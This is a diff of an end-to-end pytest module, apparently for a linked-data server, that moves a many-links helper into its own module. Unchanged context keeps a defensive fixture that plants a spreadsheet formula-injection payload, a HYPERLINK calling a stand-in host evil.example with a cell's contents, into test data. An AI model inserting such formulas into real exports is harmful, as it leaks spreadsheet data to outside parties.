@@ -20,12 +20,12 @@ from typing import Any
 
 import pytest
 
-from conftest import TEST_DATA, WRITE_TOKEN, LiveServer, copy_project, settings_for, start_on_free_port
+from conftest import TEST_DATA, WRITE_TOKEN, LiveServer, copy_project, start_on_free_port
+from many_links import PERSON, linkset_with_many_links
 
 pytestmark = [pytest.mark.e2e]
 
 HEALTH_LIMIT = 1.0
-PERSON = "person/svetlana-gorokhova"
 LONG_NAME = ("Svetlana Gorokhova Tatyana Polejayeva Mariya " * 11)[:500]
 
 
@@ -41,27 +41,13 @@ def heavy_batch(n: int = 500) -> str:
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
-def _linkset_with_many_links(root: Path, n: int) -> None:
-    from visitgraph.linking.linkset_files import DEFAULT_PREDICATE, Link, render_linkset
-
-    settings = settings_for(root)
-    iri = settings.base_iri + PERSON
-    links = [Link(iri, DEFAULT_PREDICATE, f"https://example.org/agent/{i:05d}") for i in range(n)]
-    folder = root / "linksets" / "accepted"
-    folder.mkdir(parents=True, exist_ok=True)
-    (folder / "many.ttl").write_text(
-        render_linkset(settings.base_iri, "many", "Many Links Library", "2026-01-01T00:00:00Z", "many.csv", links),
-        encoding="utf-8",
-    )
-
-
 @pytest.fixture(scope="module")
 def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
     root = copy_project(tmp_path_factory.mktemp("hostile-input") / "mini", TEST_DATA / "mini")
     people = root / "data" / "people.ttl"
     text = people.read_text(encoding="utf-8")
     people.write_text(text.replace('"Svetlana Gorokhova"', json.dumps(EVIL), 1), encoding="utf-8")
-    _linkset_with_many_links(root, 2500)
+    linkset_with_many_links(root, 2500)
     env = {"VISITGRAPH_RECONCILE_TIMEOUT": "1", "VISITGRAPH_CLIENT_BUDGET": "100000"}
     live = start_on_free_port(lambda port: LiveServer(root, port, extra_env=env))
     yield live
